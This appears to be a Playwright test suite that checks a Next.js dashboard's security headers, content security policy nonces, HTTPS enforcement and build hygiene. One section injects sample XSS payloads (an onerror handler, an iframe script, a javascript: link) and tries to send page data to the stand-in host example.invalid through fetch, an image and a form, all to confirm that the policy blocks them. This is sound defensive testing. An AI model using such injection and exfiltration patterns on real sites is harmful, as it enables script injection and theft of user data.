import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { APIResponse } from "@playwright/test";
import { FIRST_LOAD_PAGES } from "@/scripts/first-load.mjs";
import { demoCompany } from "./support/api";
import { serverActions } from "./support/next-manifests";
import { PRODUCT } from "./support/product";
import { startSecondDashboard } from "./support/second-dashboard";
import { expect, test } from "./support/test";

/** Checks the content security policy of a page and returns its nonce. */
function nonceIn(response: APIResponse): string {
  const policy = response.headers()["content-security-policy"] ?? "";
  const scripts = policy.split("; ").find((directive) => directive.startsWith("script-src "));
  expect(scripts).toMatch(/^script-src 'self' 'nonce-[A-Za-z0-9+/=]{24}' 'strict-dynamic'$/);
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("frame-ancestors 'none'");
  return /'nonce-([^']+)'/.exec(scripts!)![1]!;
}

async function expectGuarded(response: APIResponse, path: string): Promise<void> {
  const nonce = nonceIn(response);
  expect(response.headers(), path).toMatchObject({
    // Next's value for a missing page has more directives.
    "cache-control": expect.stringMatching(/^private,.* no-store\b/),
    "cross-origin-opener-policy": "same-origin",
    "cross-origin-resource-policy": "same-origin",
    "referrer-policy": "same-origin",
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
  });
  expect(response.headers()["permissions-policy"]).toContain("camera=()");
  expect(response.headers()).not.toHaveProperty("x-powered-by");
  expect(response.headers()).not.toHaveProperty("strict-transport-security");
  const html = await response.text();
  const scripts = html.match(/<script\b[^>]*>/g) ?? [];
  expect(scripts.length, `scripts of ${path}`).toBeGreaterThan(3);
  expect(scripts.filter((script) => !script.includes(`nonce="${nonce}"`))).toEqual([]);
  const tags = html.replace(/<script\b[^>]*>[\s\S]*?<\/script>/g, "").match(/<[a-z][^>]*>/gi) ?? [];
  expect(tags.filter((tag) => /\son[a-z]+\s*=|\s(?:href|src)="javascript:/i.test(tag))).toEqual([]);
}

test("every page and every address without one says what a page may do, under a nonce of its own @long", async ({
  page,
}) => {
  const { id } = await demoCompany(page);
  // The sign-in page redirects a user who is signed in.
  const pages = FIRST_LOAD_PAGES.filter((path) => path !== "/sign-in");
  const paths = [...pages.map((path) => path.replace("{company}", id)), "/no/such/page", "/no-such-picture.png"];
  const nonces = new Set<string>();
  // The first page comes twice: each response of it has another nonce.
  for (const path of [...paths, paths[0]!]) {
    const response = await page.request.get(path);
    await expectGuarded(response, path);
    nonces.add(nonceIn(response));
  }
  expect(nonces.size).toBe(paths.length + 1);
});

test("responses that a page fetches to show another page are not kept", async ({ page }) => {
  const response = await page.request.get("/agencies/demo/companies", { headers: { RSC: "1" } });
  expect(response.headers()["content-type"]).toContain("text/x-component");
  expect(response.headers()["cache-control"]).toBe("private, no-store");
});

test("an answer of the API that is opened as a page can do nothing", async ({ page }) => {
  for (const path of ["/Api/v2/Me", "/api/health", "/api/auth/csrf"]) {
    const headers = (await page.request.get(path, { headers: { "X-CSRF": "1" } })).headers();
    expect(headers, path).toMatchObject({
      "content-security-policy": "default-src 'none'; frame-ancestors 'none'; sandbox",
      "x-content-type-options": "nosniff",
      "cross-origin-resource-policy": "same-origin",
    });
    expect(headers["cache-control"], path).toMatch(/no-store|no-cache/);
  }
});

test.describe("the files in public/", () => {
  test.use({ user: null });

  test("are there for everyone, may be kept for a day, and say what they are", async ({ page }) => {
    const TYPES: Record<string, string> = {
      ico: "image/x-icon",
      png: "image/png",
      svg: "image/svg+xml; charset=utf-8",
      txt: "text/plain; charset=UTF-8",
      webmanifest: "application/manifest+json",
    };
    for (const name of readdirSync("public")) {
      const response = await page.request.get(`/${name}`, { maxRedirects: 0 });
      expect(response.status(), name).toBe(200);
      expect(response.headers(), name).toMatchObject({
        "cache-control": "public, max-age=86400",
        "content-type": TYPES[name.split(".").at(-1)!],
        "x-content-type-options": "nosniff",
        "cross-origin-resource-policy": "same-origin",
      });
      expect(response.headers(), name).not.toHaveProperty("set-cookie");
      expect(await response.body()).toEqual(readFileSync(join("public", name)));
    }
  });

  test("are named by the page and by the manifest, and keep robots out", async ({ page }) => {
    await page.goto("/sign-in");
    const links = await page
      .locator("link[rel=icon], link[rel=apple-touch-icon], link[rel=manifest]")
      .evaluateAll((found) => found.map((link) => new URL((link as HTMLLinkElement).href).pathname));
    expect(links.toSorted()).toEqual(["/apple-icon.png", "/favicon.ico", "/icon.svg", "/manifest.webmanifest"]);
    const manifest = (await (await page.request.get("/manifest.webmanifest")).json()) as { icons: { src: string }[] };
    const named = [...links, ...manifest.icons.map(({ src }) => src), "/robots.txt"];
    expect([...new Set(named)].toSorted()).toEqual(
      readdirSync("public")
        .map((name) => `/${name}`)
        .toSorted(),
    );
    expect(await (await page.request.get("/robots.txt")).text()).toContain("Disallow: /\n");
  });
});

test("a dashboard with an https address insists on https in answers over https, and refuses a request over http @long", async ({
  playwright,
}) => {
  const settings = { PUBLIC_URL: "https://books.example.com", TRUST_PROXY: "127.0.0.1" };
  const dashboard = await startSecondDashboard(PRODUCT.serviceUrl, settings);
  const request = await playwright.request.newContext({
    baseURL: dashboard.url,
    extraHTTPHeaders: { "X-Forwarded-Proto": "https", "X-CSRF": "1" },
  });
  try {
    const page = await request.get("/sign-in");
    expect(page.headers()["content-security-policy"]).toContain("; upgrade-insecure-requests");
    const script = /\/_next\/static\/[^"]+\.js/.exec(await page.text())![0];
    for (const path of ["/sign-in", "/Api/v2/Me", "/api/auth/csrf", "/icon.svg", "/robots.txt", script]) {
      const { "strict-transport-security": hsts } = (await request.get(path)).headers();
      expect(hsts, path).toBe("max-age=63072000; includeSubDomains");
    }
    const redirect = await request.get("/agencies", { maxRedirects: 0 });
    expect(redirect.headers().location).toMatch(/^https:\/\/books\.example\.com\/sign-in|^\/sign-in/);
    const plain = await request.get("/sign-in", { headers: { "X-Forwarded-Proto": "http" } });
    expect(plain.status()).toBe(403);
  } finally {
    await request.dispose();
    await dashboard.stop();
  }
});

test.describe("code that somebody got into a page", () => {
  test.use({ expectedConsole: [/Content Security Policy|status of 404/] });

  test("does not run: not as a handler, not in a frame, not as an address", async ({ page }) => {
    await page.goto("/agencies/demo/companies");
    const { ran, blocked } = await page.evaluate(async () => {
      const target = window as unknown as { ran: string[] };
      target.ran = [];
      const blocked: string[] = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
        blocked.push(effectiveDirective);
      });
      const holder = document.createElement("div");
      holder.innerHTML = `
        <img src="/no-such-picture.png" onerror="window.ran.push('handler')">
        <iframe srcdoc="<script>parent.ran.push('frame')</script>"></iframe>
        <a href="javascript:window.ran.push('address')">a</a>`;
      const [picture, frame, address] = holder.children;
      const happened = (element: Element, event: string) =>
        new Promise((resolve) => {
          element.addEventListener(event, resolve);
        });
      const failedAndLoaded = Promise.all([happened(picture!, "error"), happened(frame!, "load")]);
      document.body.append(holder);
      (address as HTMLAnchorElement).click();
      await failedAndLoaded;
      return { ran: target.ran, blocked: blocked.sort() };
    });
    expect(ran).toEqual([]);
    // The handler and the address; the frame's violation is an event of the frame's own document.
    expect(blocked).toEqual(["script-src-attr", "script-src-elem"]);
  });

  test("cannot send what it has seen to another address", async ({ page }) => {
    await page.goto("/agencies/demo/companies");
    const blocked = await page.evaluate(
      () =>
        new Promise<string[]>((resolve) => {
          const directives: string[] = [];
          document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
            directives.push(effectiveDirective);
            if (directives.length === 3) resolve(directives.sort());
          });
          fetch("https://example.invalid/?stolen").catch(() => undefined);
          const picture = new Image();
          picture.src = "https://example.invalid/?stolen";
          const form = Object.assign(document.createElement("form"), { action: "https://example.invalid/" });
          document.body.append(form, picture);
          form.submit();
        }),
    );
    expect(blocked).toEqual(["connect-src", "form-action", "img-src"]);
  });
});

test.describe("in the build", () => {
  test("there are no server actions", async ({ page }) => {
    expect(serverActions()).toEqual({ node: {}, edge: {} });
    const sources = ["app", "components", "lib"].flatMap((folder) =>
      readdirSync(folder, { recursive: true, encoding: "utf8" })
        .filter((name) => /\.tsx?$/.test(name))
        .map((name) => join(folder, name)),
    );
    expect(sources.length).toBeGreaterThan(100);
    expect(sources.filter((file) => /^\s*["']use server["']/m.test(readFileSync(file, "utf8")))).toEqual([]);
    // An id of as many hexadecimal digits as Next gives to server actions.
    const called = await page.request.post("/agencies/demo/companies", {
      headers: { "Next-Action": "0".repeat(42), Accept: "text/x-component" },
      data: "[]",
    });
    expect(called.status()).toBeGreaterThanOrEqual(400);
    expect(called.headers()["content-type"]).not.toContain("text/x-component");
  });

  test("there is no optimiser of pictures, and no source map to read", async ({ page }) => {
    const picture = await page.request.get("/_next/image?url=%2Ficon.svg&w=64&q=75");
    expect(picture.ok()).toBe(false);
    expect(existsSync(".next/static")).toBe(true);
    const files = readdirSync(".next/static", { recursive: true, encoding: "utf8" });
    expect(files.filter((name) => name.endsWith(".js")).length).toBeGreaterThan(20);
    // Turbopack leaves empty source maps behind.
    const maps = files.filter((name) => name.endsWith(".map"));
    const leaking = maps.filter((name) => !/"sources":\s*\[\]/.test(readFileSync(join(".next/static", name), "utf8")));
    expect(leaking).toEqual([]);
    const pointing = files.filter(
      (name) => name.endsWith(".js") && readFileSync(join(".next/static", name), "utf8").includes("sourceMappingURL="),
    );
    expect(pointing).toEqual([]);
  });
});
